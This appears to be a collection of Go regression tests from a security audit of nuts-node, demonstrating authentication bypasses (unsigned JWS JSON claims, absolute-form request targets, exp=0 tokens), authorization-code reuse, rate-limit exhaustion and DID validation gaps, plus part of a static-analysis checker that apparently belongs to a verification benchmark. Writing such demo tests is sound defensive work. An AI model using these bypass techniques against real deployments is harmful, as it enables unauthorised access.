// TestDemo_AuthorizationCodeSurvivesFailedRedemption demonstrates that an authorization code is still alive after a failed
// redemption attempt: HandleTokenRequest returns on an unknown subject (tenant) in the request path before the code is burned.
// The code store is shared by all subjects of the node (handleAccessTokenRequest does not look at the subject in the path),
// so the code is presented to the very endpoint that could have redeemed it.
//
// Property: "An authorization code is also dead after any failed redemption attempt."
func TestDemo_AuthorizationCodeSurvivesFailedRedemption(t *testing.T) {
	ctx := newTestClient(t)
	code := "stolen-code"
	clientID := "did:web:example.com:iam:holder"
	subject := verifierSubject
	session := OAuthSession{
		ClientID:    clientID,
		OwnSubject:  &subject,
		RedirectURI: "https://example.com/iam/holder/cb",
		Scope:       "scope",
		PKCEParams:  generatePKCEParams(),
	}
	putCodeSession(ctx, code, session)
	guessedVerifier := "guessed-verifier"

	// redemption attempt that fails
	response, err := ctx.client.HandleTokenRequest(nil, HandleTokenRequestRequestObject{
		SubjectID: unknownSubjectID,
		Body: &HandleTokenRequestFormdataRequestBody{
			GrantType:    oauth.AuthorizationCodeGrantType,
			Code:         &code,
			ClientId:     &clientID,
			CodeVerifier: &guessedVerifier,
		},
	})
	require.Error(t, err)
	require.Nil(t, response)

	// "a failing request could indicate a stolen authorization code. always burn a code once presented."
	assert.ErrorIs(t, ctx.client.oauthCodeStore().Get(code, new(OAuthSession)), storage.ErrNotFound,
		"authorization code is still redeemable after a failed redemption attempt")
}
