package issuer

import (
	"context"
	"net/http"
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/audit"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// A pre-authorized code is the authorization code of the OpenID4VCI issuer ("MUST be short-lived and single-use").
// Property: "An authorization code is also dead after any failed redemption attempt."
//
// The node hosts an OpenID4VCI token endpoint per issuer DID (/n2n/identity/{did}/token), all backed by the same session database.
// A redemption attempt at the token endpoint of another issuer DID of the same node fails,
// but leaves the code redeemable: the next attempt succeeds.
func TestDemo_PreAuthorizedCodeSurvivesFailedRedemption(t *testing.T) {
	ctx := context.Background()
	sessionDatabase := storage.NewTestInMemorySessionDatabase(t)
	issuerA, err := NewOpenIDHandler(issuerDID, issuerIdentifier, definitionsDIR, &http.Client{}, nil, sessionDatabase)
	require.NoError(t, err)
	issuerB, err := NewOpenIDHandler(did.MustParseDID("did:nuts:other"), "https://example.com/did:nuts:other", definitionsDIR, &http.Client{}, nil, sessionDatabase)
	require.NoError(t, err)

	// issuer A offers a credential; the offer carries the pre-authorized code
	_, err = issuerA.(*openidHandler).createOffer(ctx, issuedVC, "code")
	require.NoError(t, err)

	// attempt 1: the code is presented at the token endpoint of issuer B. The redemption fails.
	accessToken, _, err := issuerB.HandleAccessTokenRequest(audit.TestContext(), "code")
	require.Error(t, err, "attempt 1 must fail")
	require.Empty(t, accessToken)

	// attempt 2: the code has been presented in a failed redemption attempt, so it must be dead.
	accessToken, _, err = issuerA.HandleAccessTokenRequest(audit.TestContext(), "code")
	assert.Error(t, err, "pre-authorized code is still redeemable after a failed redemption attempt")
	assert.Empty(t, accessToken, "pre-authorized code is still redeemable after a failed redemption attempt")
}
