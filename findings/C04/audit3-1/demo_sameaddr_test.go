package http

import (
	"fmt"
	"io"
	"net/http"
	"testing"
	"time"

	"github.com/labstack/echo/v4"
	"github.com/nuts-foundation/nuts-node/core"
	"github.com/nuts-foundation/nuts-node/test"
)

// The internal and the public address denote the same socket, but are not written the same way
// (e.g. "127.0.0.1:8080" and "localhost:8080", or ":8080" and "0.0.0.0:8080").
// Property: handlers registered under /internal, /status, /metrics and /health are never served by the public listener.
func TestDemo_InternalRoutesServedOnPublicAddress(t *testing.T) {
	pairs := [][2]string{
		{"127.0.0.1:%d", "localhost:%d"}, // internal, public
		{"0.0.0.0:%d", ":%d"},
		{"[::]:%d", "127.0.0.1:%d"},
	}
	for attempt := 0; attempt < 60; attempt++ {
		port := test.FreeTCPPort()
		pair := pairs[attempt%len(pairs)]
		shutdownCalled := make(chan struct{}, 1)
		engine := New(func() { shutdownCalled <- struct{}{} }, nil)
		engine.config = DefaultConfig()
		engine.config.Log = LogNothingLevel
		engine.config.Internal.Address = fmt.Sprintf(pair[0], port)
		engine.config.Public.Address = fmt.Sprintf(pair[1], port)

		err := engine.Configure(*core.NewServerConfig())
		if err != nil {
			// refused: fine, the property holds
			t.Logf("refused: %v", err)
			continue
		}
		engine.Router().GET("/status", func(c echo.Context) error {
			return c.String(http.StatusOK, "internal status handler")
		})
		engine.Router().GET("/internal/secret", func(c echo.Context) error {
			return c.String(http.StatusOK, "internal handler")
		})
		engine.Router().GET("/public", func(c echo.Context) error {
			return c.String(http.StatusOK, "public handler")
		})
		if err := engine.Start(); err != nil {
			continue
		}

		// wait until something listens at the PUBLIC address (or the node gives up, which is fine)
		publicAddress := fmt.Sprintf("127.0.0.1:%d", port) // an address the public interface listens on
		var served string
		deadline := time.Now().Add(2 * time.Second)
	wait:
		for time.Now().Before(deadline) {
			select {
			case <-shutdownCalled:
				break wait // node shuts down: fine
			default:
			}
			for _, path := range []string{"/internal/secret", "/status"} {
				response, err := http.Get("http://" + publicAddress + path)
				if err != nil {
					time.Sleep(10 * time.Millisecond)
					continue wait
				}
				body, _ := io.ReadAll(response.Body)
				_ = response.Body.Close()
				if response.StatusCode == http.StatusOK {
					served += fmt.Sprintf("GET http://%s%s -> %d %q\n", publicAddress, path, response.StatusCode, string(body))
				}
			}
			break
		}
		_ = engine.Shutdown()
		if served != "" {
			t.Fatalf("attempt %d: http.internal.address=%q http.public.address=%q: internal handlers are served at the public address, node keeps running:\n%s", attempt, engine.config.Internal.Address, engine.config.Public.Address, served)
		}
	}
}
