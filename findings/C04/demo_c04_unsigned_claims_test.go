package tokenV2

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/labstack/echo/v4"
	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemoUnsignedTopLevelClaims shows that the claims the middleware checks (aud, iss, sub, jti, iat, nbf, exp) do not
// have to be covered by the signature of the authorized key.
//
// The attacker holds an OLD token of the authorized user: it expired two days ago, and it was issued for another
// audience, by another issuer name, with a non-UUID jti. As a compact JWT it is (rightly) refused. The attacker
// re-serialises it in the JWS JSON serialisation - which keeps the signature valid, no private key needed - and adds
// fresh claims as additional, unsigned, top-level members of the JSON object.
func TestDemoUnsignedTopLevelClaims(t *testing.T) {
	_, serializer, authorizedKey := generateEd25519TestKey(t)

	// The stale token: expired 2 days ago, other audience, other issuer, jti not a UUID
	old := time.Now().Add(-48 * time.Hour)
	staleToken, err := jwt.NewBuilder().
		Issuer("someone-else").
		Subject("x").
		Audience([]string{invalidHostname}).
		IssuedAt(old).
		NotBefore(old).
		Expiration(old.Add(time.Minute)).
		JwtID("not-a-uuid").
		Build()
	require.NoError(t, err)
	stale, err := serializer.Serialize(staleToken)
	require.NoError(t, err)

	invocations := 0
	handler := func(c echo.Context) error {
		invocations++
		return c.String(http.StatusOK, ok)
	}
	middleware, err := New(nil, validHostname, authorizedKey)
	require.NoError(t, err)

	call := func(credential string) (int, error) {
		request, _ := http.NewRequest("POST", "/internal/vdr/v2/subject", nil)
		request.Header.Set("Authorization", "Bearer "+credential)
		recorder := httptest.NewRecorder()
		err := middleware.Handler(handler)(echo.New().NewContext(request, recorder))
		return recorder.Code, err
	}

	// Sanity check: the stale token itself is refused
	_, err = call(string(stale))
	require.Error(t, err, "the stale compact token must be refused")
	require.Equal(t, 0, invocations)

	// Re-wrap: same protected header, payload and signature; the claims that are checked are NOT signed
	parts := strings.Split(string(stale), ".")
	require.Len(t, parts, 3)
	now := time.Now().Unix()
	unsignedClaims := fmt.Sprintf(`"aud":"%s","iss":"%s","sub":"attacker","jti":"%s","iat":%d,"nbf":%d,"exp":%d`,
		validHostname, validUser, uuid.NewString(), now-10, now-10, now+24*3600)

	credentials := map[string]string{
		"flattened JSON serialization": fmt.Sprintf(`{"protected":"%s","payload":"%s","signature":"%s",%s}`, parts[0], parts[1], parts[2], unsignedClaims),
		"general JSON serialization":   fmt.Sprintf(`{"payload":"%s","signatures":[{"protected":"%s","signature":"%s"}],%s}`, parts[1], parts[0], parts[2], unsignedClaims),
	}
	for name, credential := range credentials {
		t.Run(name, func(t *testing.T) {
			invocations = 0
			status, err := call(credential)

			// The property: a request only reaches the handler with a token *signed by an authorised key with* the
			// configured audience, the key owner's name as issuer, a subject, a UUID token id and a bounded lifetime.
			// None of the claims that were signed satisfies that, so this must be a 401 and the handler must not run.
			assert.Equal(t, 0, invocations, "handler was invoked with a credential whose checked claims are not signed")
			if assert.Error(t, err, "expected 401, got HTTP %d", status) {
				httpErr, isHTTPErr := err.(*echo.HTTPError)
				require.True(t, isHTTPErr)
				assert.Equal(t, http.StatusUnauthorized, httpErr.Code)
			}
		})
	}
}
