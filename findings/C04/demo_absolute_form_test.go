package http

// Demonstration for the C04 defect (fixed by "fix: match auth skipper on URL path"): place in /repo/http and run
//   go test -run TestDemoAbsoluteFormBypass ./http/
// Before the fix the request below reaches the /internal handler without a token (status 200).

import (
	"bufio"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"testing"

	"github.com/labstack/echo/v4"
	"github.com/nuts-foundation/nuts-node/core"
	"github.com/nuts-foundation/nuts-node/test"
	"github.com/stretchr/testify/require"
)

func TestDemoAbsoluteFormBypass(t *testing.T) {
	authKeys := filepath.Join(t.TempDir(), "authorized_keys")
	require.NoError(t, os.WriteFile(authKeys, []byte("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHcPbaJpqNMBUEK0g0TbnFv0uKq9r2ZCJvpnKgCg9O1t someone\n"), 0600))
	engine := New(func() {}, nil)
	engine.config.Internal.Address = fmt.Sprintf("localhost:%d", test.FreeTCPPort())
	engine.config.Public.Address = fmt.Sprintf("localhost:%d", test.FreeTCPPort())
	engine.config.Internal.Auth = AuthConfig{Type: BearerTokenAuthV2, AuthorizedKeysPath: authKeys}
	require.NoError(t, engine.Configure(*core.NewServerConfig()))
	reached := false
	engine.Router().GET("/internal/secret", func(c echo.Context) error {
		reached = true
		return c.String(200, "secret")
	})
	require.NoError(t, engine.Start())
	defer engine.Shutdown()
	test.WaitFor(t, func() (bool, error) {
		c, err := net.Dial("tcp", engine.config.Internal.Address)
		if err == nil {
			c.Close()
		}
		return err == nil, nil
	}, 5e9, "server start")

	conn, err := net.Dial("tcp", engine.config.Internal.Address)
	require.NoError(t, err)
	defer conn.Close()
	fmt.Fprintf(conn, "GET http://%s/internal/secret HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", engine.config.Internal.Address, engine.config.Internal.Address)
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	require.NoError(t, err)
	require.Equal(t, http.StatusUnauthorized, resp.StatusCode, "absolute-form request target must not bypass token auth")
	require.False(t, reached)
}
