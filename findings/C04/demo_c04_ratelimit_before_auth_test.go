package http

import (
	"net/http"
	"os"
	"sync/atomic"
	"testing"

	"github.com/labstack/echo/v4"
	"github.com/nuts-foundation/nuts-node/core"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemoUnauthenticatedRequestsConsumeInternalRateLimit shows that, with API token authentication enabled and the
// default server configuration (strict mode, did:nuts enabled), requests WITHOUT a token
// - are not all answered 401 (the 31st and later are answered 429), and
// - have a side effect: they drain the node-wide (not per-caller) token bucket of the internal rate limiter,
//   so that the authorized user is locked out of the rate limited operations (create DID, issue VC, ...).
func TestDemoUnauthenticatedRequestsConsumeInternalRateLimit(t *testing.T) {
	const rateLimitedPath = "/internal/vdr/v1/did" // POST: create DID; in the list of applyRateLimiterMiddleware

	// A key and JWT of the authorized user
	_, serializer, authorizedKeys := generateEd25519TestKey(t)
	serializedToken, err := serializer.Serialize(validJWT(t, "foo"))
	require.NoError(t, err)
	authorizedKeysFile, err := os.CreateTemp(t.TempDir(), "tmp.authorized_keys-")
	require.NoError(t, err)
	_, _ = authorizedKeysFile.Write(authorizedKeys)
	_ = authorizedKeysFile.Close()

	engine := New(func() {}, nil)
	engine.config = createTestConfig()
	engine.config.Internal.Auth = AuthConfig{
		Type:               BearerTokenAuthV2,
		Audience:           "foo",
		AuthorizedKeysPath: authorizedKeysFile.Name(),
	}
	// default server config: strictmode=true, internalratelimiter=true, didmethods=[web,nuts]
	require.NoError(t, engine.Configure(*core.NewServerConfig()))

	var invocations atomic.Int32
	engine.Router().POST(rateLimitedPath, func(c echo.Context) error {
		invocations.Add(1)
		return c.NoContent(http.StatusOK)
	})
	require.NoError(t, engine.Start())
	defer engine.Shutdown()
	assertServerStarted(t, engine.config.Internal.Address)

	do := func(bearerToken string) int {
		request, _ := http.NewRequest(http.MethodPost, "http://"+engine.config.Internal.Address+rateLimitedPath, nil)
		if bearerToken != "" {
			request.Header.Set("Authorization", "Bearer "+bearerToken)
		}
		response, err := http.DefaultClient.Do(request)
		require.NoError(t, err)
		_ = response.Body.Close()
		return response.StatusCode
	}

	// 40 requests without a token: "every failure is answered 401 with no side effect"
	statusCount := map[int]int{}
	for i := 0; i < 40; i++ {
		statusCount[do("")]++
	}
	assert.Equal(t, map[int]int{http.StatusUnauthorized: 40}, statusCount, "every unauthenticated request must be answered 401")
	assert.Equal(t, int32(0), invocations.Load())

	// ... "with no side effect": the authorized user must not be affected by the rejected requests
	assert.Equal(t, http.StatusOK, do(string(serializedToken)), "authorized request is refused because unauthenticated requests consumed the rate limit")
	assert.Equal(t, int32(1), invocations.Load())
}
