package tokenV2

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/labstack/echo/v4"
	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// A token with "exp": 0 carries the mandatory exp field, but jwt.Validate treats the Unix epoch as "not set" and skips the
// expiry check, and the "no more than 24.5h after nbf/iat" checks only bound exp from above. Such a token never expired:
// its lifetime was unbounded.
func TestDemoC04_TokenExpiringAtTheEpochIsRejected(t *testing.T) {
	_, serializer, authorizedKey := generateEd25519TestKey(t)
	now := time.Now()
	token, err := jwt.NewBuilder().
		Issuer(validUser).
		Subject(validUser).
		Audience([]string{validHostname}).
		IssuedAt(now).
		NotBefore(now).
		Expiration(time.Unix(0, 0)).
		JwtID(uuid.NewString()).
		Build()
	require.NoError(t, err)
	serialized, err := serializer.Serialize(token)
	require.NoError(t, err)

	middleware, err := New(nil, validHostname, authorizedKey)
	require.NoError(t, err)
	handlerRan := false
	handler := middleware.Handler(func(c echo.Context) error {
		handlerRan = true
		return c.String(http.StatusOK, ok)
	})
	request, err := http.NewRequest("GET", "/internal/x", nil)
	require.NoError(t, err)
	request.Header.Set("Authorization", fmt.Sprintf("Bearer %s", serialized))
	recorder := httptest.NewRecorder()

	err = handler(echo.New().NewContext(request, recorder))

	assert.False(t, handlerRan, "handler must not run for a token that never expires")
	require.Error(t, err)
	httpErr, isHTTPErr := err.(*echo.HTTPError)
	require.True(t, isHTTPErr)
	assert.Equal(t, http.StatusUnauthorized, httpErr.Code)
}
