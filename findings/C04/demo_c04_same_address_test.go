package http

import (
	"fmt"
	"io"
	"net/http"
	"testing"

	"github.com/labstack/echo/v4"
	"github.com/nuts-foundation/nuts-node/core"
	"github.com/nuts-foundation/nuts-node/test"
	"github.com/stretchr/testify/assert"
)

// TestDemoInternalRoutesServedByPublicListener shows that when http.internal.address is set to the same value as
// http.public.address, Configure() silently re-uses the public Echo server for the internal binds: everything
// registered under /internal, /status, /metrics and /health is then served by the public listener.
func TestDemoInternalRoutesServedByPublicListener(t *testing.T) {
	engine := New(func() {}, nil)
	engine.config = DefaultConfig()
	engine.config.Public.Address = fmt.Sprintf("localhost:%d", test.FreeTCPPort())
	engine.config.Internal.Address = engine.config.Public.Address // e.g. http.public.address=:8080 and http.internal.address=:8080

	err := engine.Configure(*core.NewServerConfig())
	if err != nil {
		// Refusing the configuration is fine: internal routes are then not served by the public listener.
		t.Logf("configuration refused: %v", err)
		return
	}

	handler := func(c echo.Context) error {
		return c.String(http.StatusOK, "internal handler: "+c.Path())
	}
	internalPaths := []string{"/internal/vdr/v2/subject", "/status", "/status/diagnostics", "/metrics", "/health"}
	for _, path := range internalPaths {
		engine.Router().GET(path, handler)
	}
	_ = engine.Start()
	defer engine.Shutdown()
	assertServerStarted(t, engine.config.Public.Address)

	for _, path := range internalPaths {
		response, err := http.Get("http://" + engine.config.Public.Address + path)
		if !assert.NoError(t, err) {
			continue
		}
		body, _ := io.ReadAll(response.Body)
		_ = response.Body.Close()
		assert.NotEqualf(t, http.StatusOK, response.StatusCode, "public listener %s served internal route %s: %s", engine.config.Public.Address, path, string(body))
	}
}
