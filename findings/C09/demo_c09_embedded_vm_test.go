package didnuts

// Demo for audit finding C09/2: verification methods that are embedded in a verification relationship
// (capabilityInvocation, authentication, ...) are not checked against the Nuts DID method rules.
//
// Real signed creation transaction -> real ambassador.callback -> real DID store. Only network.Transactions is mocked.

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwk"
	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/audit"
	nutsCrypto "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/network"
	"github.com/nuts-foundation/nuts-node/network/dag"
	"github.com/nuts-foundation/nuts-node/vdr/didnuts/didstore"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

func c09bVM(t *testing.T, owner did.DID, key *ecdsa.PrivateKey) *did.VerificationMethod {
	j, err := jwk.FromRaw(key.Public())
	require.NoError(t, err)
	require.NoError(t, jwk.AssignKeyID(j))
	vm, err := did.NewVerificationMethod(did.DIDURL{DID: owner, Fragment: j.KeyID()}, ssi.JsonWebKey2020, owner, key.Public())
	require.NoError(t, err)
	return vm
}

func TestDemoC09_EmbeddedVerificationMethodsAreNotValidated(t *testing.T) {
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	otherKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	keyJWK, _ := jwk.FromRaw(key.Public())
	thumbprint, _ := nutsCrypto.Thumbprint(keyJWK)
	id := did.MustParseDID("did:nuts:" + thumbprint)
	vm := c09bVM(t, id, key)
	vmJSON, _ := json.Marshal(vm)
	otherJWK, _ := jwk.FromRaw(otherKey.Public())
	otherJWKJSON, _ := json.Marshal(otherJWK)

	const docFmt = `{"@context":"https://www.w3.org/ns/did/v1","id":"%s","verificationMethod":[%s],"capabilityInvocation":["%s",%s]}`
	embedded := func(id string, jwkJSON string) string {
		return fmt.Sprintf(`{"id":"%s","type":"JsonWebKey2020","controller":"%s","publicKeyJwk":%s}`, id, "did:nuts:someone", jwkJSON)
	}

	testCases := []struct {
		name string
		rule string
		doc  string
	}{
		{
			name: "control: same method as top-level verificationMethod is refused (key id is not the thumbprint)",
			doc:  fmt.Sprintf(`{"@context":"https://www.w3.org/ns/did/v1","id":"%s","verificationMethod":[%s,%s],"capabilityInvocation":["%s"]}`, id, vmJSON, embedded(id.String()+"#backdoor", string(otherJWKJSON)), vm.ID),
		},
		{
			name: "embedded capabilityInvocation key whose id is not the key thumbprint",
			rule: "key ids equal to key thumbprints",
			doc:  fmt.Sprintf(docFmt, id, vmJSON, vm.ID, embedded(id.String()+"#backdoor", string(otherJWKJSON))),
		},
		{
			name: "embedded capabilityInvocation key whose id is not prefixed by the DID",
			rule: "entry ids prefixed by the DID",
			doc:  fmt.Sprintf(docFmt, id, vmJSON, vm.ID, embedded("did:nuts:someoneelse#"+c09bVM(t, id, otherKey).ID.Fragment, string(otherJWKJSON))),
		},
		{
			name: "embedded capabilityInvocation key with the id of another verification method (different key material)",
			rule: "entry ids ... unique",
			doc:  fmt.Sprintf(docFmt, id, vmJSON, vm.ID, embedded(vm.ID.String(), string(otherJWKJSON))),
		},
		{
			name: "embedded capabilityInvocation key without any key material",
			rule: "key ids equal to key thumbprints",
			doc:  fmt.Sprintf(docFmt, id, vmJSON, vm.ID, `{"id":"`+id.String()+`#nokey","type":"JsonWebKey2020","controller":"`+id.String()+`"}`),
		},
	}

	for i, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			store := didstore.NewTestStore(t)
			nw := network.NewMockTransactions(gomock.NewController(t))
			nw.EXPECT().DiscoverServices(gomock.Any()).AnyTimes()
			amb := &ambassador{
				networkClient: nw,
				didStore:      store,
				keyResolver:   dag.SourceTXKeyResolver{Resolver: Resolver{Store: store}},
				didResolver:   &Resolver{Store: store},
			}

			// creation transaction, signed with (and embedding) the key the DID is derived from
			payload := []byte(tc.doc)
			unsigned, err := dag.NewTransaction(hash.SHA256Sum(payload), DIDDocumentType, nil, nil, 0)
			require.NoError(t, err)
			privJWK, _ := jwk.FromRaw(key)
			_ = privJWK.Set(jwk.KeyIDKey, vm.ID.String())
			tx, err := dag.NewTransactionSigner(nutsCrypto.MemoryJWTSigner{Key: privJWK}, vm.ID.String(), key.Public()).Sign(audit.TestContext(), unsigned, time.Now())
			require.NoError(t, err)
			require.NoError(t, dag.NewTransactionSignatureVerifier(nil)(nil, tx))

			err = amb.callback(tx, payload)

			_, _, resolveErr := (&Resolver{Store: store}).Resolve(id, nil)
			assert.Error(t, err, "document violates the Nuts DID method rules (%s): must be refused", tc.rule)
			assert.ErrorIs(t, resolveErr, resolver.ErrNotFound, "refused document must not become resolvable")
			if i == 0 {
				require.ErrorContains(t, err, "key thumbprint does not match ID")
			}
		})
	}
}
