package didnuts

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/json"
	"testing"
	"time"

	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/events"
	"github.com/nuts-foundation/nuts-node/network"
	"github.com/nuts-foundation/nuts-node/vdr/didnuts/didstore"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// Demo for seeded change C09-b.
//
// A did:nuts document is created by its rightful key (DID == thumbprint of the signing key), but it carries a second
// verification method whose id fragment is NOT the thumbprint of the key material it holds. The publicKeyJwk of that
// method contains a "kid" member equal to the fragment.
// Such a document violates the Nuts method rule "key id == key thumbprint" and must never become resolvable.
func TestDemo_C09b_KidMemberInPublicKeyJwk(t *testing.T) {
	doc, signingKey := newDidDoc(t)

	// the id claims to be some other key (here: the thumbprint of a key the publisher does not own) ...
	claimedKeyPair, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	claimedKID, err := didSubKIDNamingFunc(doc.ID)(claimedKeyPair.Public())
	require.NoError(t, err)
	claimedID := did.MustParseDIDURL(claimedKID)
	// ... but the key material is a different key
	actualKeyPair, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	vm, err := did.NewVerificationMethod(claimedID, ssi.JsonWebKey2020, doc.ID, actualKeyPair.Public())
	require.NoError(t, err)
	vm.PublicKeyJwk["kid"] = claimedID.Fragment // the unusual bit
	doc.AddCapabilityInvocation(vm)
	doc.AddAssertionMethod(vm)

	payload, err := json.Marshal(doc)
	require.NoError(t, err)
	// work on the document as a receiving node would see it
	var received did.Document
	require.NoError(t, json.Unmarshal(payload, &received))

	t.Run("validator", func(t *testing.T) {
		err := NetworkDocumentValidator().Validate(received)
		assert.EqualError(t, err, "invalid verificationMethod: key thumbprint does not match ID")
	})

	t.Run("network callback with real store", func(t *testing.T) {
		ctrl := gomock.NewController(t)
		store := didstore.NewTestStore(t)
		networkMock := network.NewMockTransactions(ctrl)
		networkMock.EXPECT().DiscoverServices(gomock.Any()).AnyTimes()
		am := NewAmbassador(networkMock, store, events.NewMockEvent(ctrl)).(*ambassador)

		tx := testTransaction{
			signingKey:  signingKey,
			signingTime: time.Now(),
			ref:         hash.RandomHash(),
			payloadHash: hash.SHA256Sum(payload),
			payloadType: DIDDocumentType,
		}
		err := am.callback(tx, payload)
		assert.Error(t, err, "malformed document must be rejected")

		resolved, _, err := store.Resolve(doc.ID, &resolver.ResolveMetadata{AllowDeactivated: true})
		assert.ErrorIs(t, err, resolver.ErrNotFound, "malformed document must not become resolvable")
		if resolved != nil {
			for _, m := range resolved.VerificationMethod {
				pk, _ := m.PublicKey()
				kid, _ := didSubKIDNamingFunc(doc.ID)(pk)
				assert.Equal(t, kid, m.ID.String(), "resolvable document lists a key whose id is not its thumbprint")
			}
		}
	})
}
