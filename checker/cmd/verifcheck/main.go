// verifcheck decides the nuts-node properties by static analysis of /repo's working tree.
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"verifcheck/an"
	"verifcheck/props"
)

func main() {
	prop := flag.String("prop", "", "property id (C01..C20)")
	tier := flag.String("tier", "quick", "quick|thorough")
	root := flag.String("repo", "/repo", "repository root")
	verif := flag.String("verif", "/verif", "verif dir (evidence, known findings)")
	tags := flag.String("tags", "", "build tags")
	var overlays multiFlag
	flag.Var(&overlays, "overlay", "rel/path.go=replacement-file (analysis of a variant without touching the repository); repeatable")
	gen := flag.String("gen-symbols", "", "write the baseline symbol inventory of -repo to this file and exit")
	flag.Parse()
	if *gen != "" {
		p, err := an.Load(an.LoadOpts{Root: *root, Tags: *tags})
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		if err := p.GenBaseline(*gen); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		os.Exit(0)
	}
	for _, o := range overlays {
		kv := strings.SplitN(o, "=", 2)
		b, err := os.ReadFile(kv[1])
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		if overlay == nil {
			overlay = map[string][]byte{}
		}
		overlay[filepath.Join(*root, kv[0])] = b
	}
	if t := os.Getenv("VERIF_TIER"); t != "" && *tier == "" {
		*tier = t
	}
	seed := 0
	if s := os.Getenv("VERIF_SEED"); s != "" {
		seed, _ = strconv.Atoi(s)
	}
	f, ok := props.Registry[*prop]
	if !ok {
		fmt.Fprintf(os.Stderr, "unknown property %q\n", *prop)
		os.Exit(2)
	}
	code := run(*prop, *tier, *root, *verif, *tags, seed, f)
	os.Exit(code)
}

var overlay map[string][]byte

type multiFlag []string

func (m *multiFlag) String() string     { return strings.Join(*m, ",") }
func (m *multiFlag) Set(v string) error { *m = append(*m, v); return nil }

func run(prop, tier, root, verif, tags string, seed int, f props.PropFunc) (code int) {
	var r *an.Report
	defer func() {
		if e := recover(); e != nil {
			// a panic in the checker is a failure of the check, never a pass
			if r == nil {
				r = an.NewReport(prop, tier, nil)
			}
			r.Undecided("checker-panic", "the checker must not crash", "", fmt.Sprint(e))
			r.Finish(verif, seed)
			code = 1
			panic(e)
		}
	}()
	p, err := an.Load(an.LoadOpts{Root: root, Whole: (tier == "thorough" && props.NeedsWhole[prop]) || props.AlwaysWhole[prop], Tags: tags, Overlay: overlay, Baseline: baselinePath()})
	if err != nil {
		r = an.NewReport(prop, tier, nil)
		r.Undecided("load", "the program must load and type-check", "", err.Error())
		return r.Finish(verif, seed)
	}
	r = an.NewReport(prop, tier, p)
	f(r)
	if note := props.LaterRules[prop]; note != "" {
		r.Explanation += " " + note
	}
	return r.Finish(verif, seed)
}

func init() {
	// debug helpers: verifcheck -dump 'pkg,Recv,name'
	if len(os.Args) > 2 && os.Args[1] == "-dump" {
		p, err := an.Load(an.LoadOpts{Root: "/repo"})
		if err != nil {
			fmt.Println(err)
			os.Exit(2)
		}
		p.DumpCalls(os.Args[2])
		os.Exit(0)
	}
}

// baselinePath: checker/baseline_symbols.json next to the binary's bin/ directory (the inventory belongs to the rule
// set, not to the evidence directory).
func baselinePath() string {
	if e := os.Getenv("VERIF_BASELINE_SYMBOLS"); e != "" {
		return e
	}
	exe, err := os.Executable()
	if err != nil {
		return ""
	}
	return filepath.Join(filepath.Dir(filepath.Dir(exe)), "checker", "baseline_symbols.json")
}
