package an

import (
	"go/token"

	"golang.org/x/tools/go/ssa"
)

// Edge is a CFG edge identified by (from block, successor index).
type Edge struct {
	From *ssa.BasicBlock
	Succ int
}

func (e Edge) To() *ssa.BasicBlock { return e.From.Succs[e.Succ] }

type EdgeSet map[Edge]bool

// Reach computes the blocks reachable from start without crossing removed edges and without entering blocked blocks.
// start itself is always included. It threads jumps through boolean phis: when a block is entered over an edge on
// which the phi tested by the block's own If is a constant (`x := a || b; if x {…}` compiles to that), only the
// matching successor is followed from that entry.
func Reach(start *ssa.BasicBlock, removed EdgeSet, blocked map[*ssa.BasicBlock]bool) map[*ssa.BasicBlock]bool {
	return reachFrom(start, nil, removed, blocked)
}

// ReachFromEdge is Reach from the target of e, knowing that the target is entered over e.
func ReachFromEdge(e Edge, removed EdgeSet, blocked map[*ssa.BasicBlock]bool) map[*ssa.BasicBlock]bool {
	return reachFrom(e.To(), e.From, removed, blocked)
}

// threadedSucc: entering b from pred, is the outcome of b's If already decided? Returns the only feasible successor
// index, or -1.
func threadedSucc(pred, b *ssa.BasicBlock) int {
	if pred == nil {
		return -1
	}
	iff := ifOf(b)
	if iff == nil {
		return -1
	}
	atom, neg := condAtom(iff.Cond)
	phi, ok := atom.(*ssa.Phi)
